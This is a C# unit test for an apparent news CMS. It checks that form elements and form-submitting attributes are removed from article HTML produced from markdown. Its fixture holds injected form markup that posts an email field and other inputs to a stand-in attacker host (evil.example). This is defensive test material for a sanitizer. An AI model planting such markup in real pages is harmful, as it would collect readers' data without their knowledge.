using System.Net;
using System.Net.Http.Json;
using HeadlessNews.Tests.Infrastructure;

namespace HeadlessNews.Tests.Features.Articles;

/// <summary>A body is for reading: its HTML never holds anything that could submit data.</summary>
public sealed class BodyFormControlTests : ApiTestBase
{
    [Test]
    public async Task FormsAndFormControlsAreRemovedFromTheBody()
    {
        const string markdown = """
            ## Tell us

            <form action="https://evil.example/collect" method="post"><input name="email" value="you@example.org"><textarea name="t">x</textarea>
            <select name="s"><option>a</option><optgroup label="g"></optgroup></select><button formaction="https://evil.example/">Send</button>
            <fieldset><legend>L</legend><label>Name</label><output>o</output><datalist><option>d</option></datalist></fieldset></form>

            <input type="submit" formaction="https://evil.example/"> <button type="submit">Go</button> <isindex>

            - [ ] a task list item
            - [x] a done one

            Kept: **strong** and [a link](https://example.org/).
            """;
        var (id, _) = await CreateArticleAsync("reader-survey", extra: new { bodyMarkdown = markdown });

        var article = await Admin.GetFromJsonAsync<System.Text.Json.Nodes.JsonNode>($"/api/v1/manage/articles/{id}");
        var html = article!["bodyHtml"]!.GetValue<string>();

        foreach (var tag in new[] { "<form", "<input", "<textarea", "<button", "<select", "<option", "<optgroup", "<datalist", "<output", "<fieldset", "<legend", "<label", "<isindex" })
            Assert.That(html, Does.Not.Contain(tag), html);
        foreach (var attribute in new[] { "formaction", "action=", "method=" })
            Assert.That(html, Does.Not.Contain(attribute), html);
        Assert.That(html, Does.Contain("<strong>strong</strong>").And.Contain("href=\"https://example.org/\""));
    }
}
